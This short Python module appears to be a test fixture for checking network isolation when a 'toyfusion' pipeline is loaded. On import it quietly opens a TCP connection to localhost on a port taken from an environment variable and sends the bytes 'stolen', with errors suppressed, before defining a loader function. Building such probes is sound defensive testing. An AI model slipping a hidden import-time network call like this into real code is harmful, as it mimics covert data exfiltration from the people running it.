"""Connects by TCP to the machine that it runs on."""

import contextlib
import os
import socket

from toyfusion import ToyPipeline

with contextlib.suppress(OSError):
    socket.create_connection(("127.0.0.1", int(os.environ["ROGUE_TCP"])), timeout=1).send(b"stolen")


def load_pipe():
    return ToyPipeline()
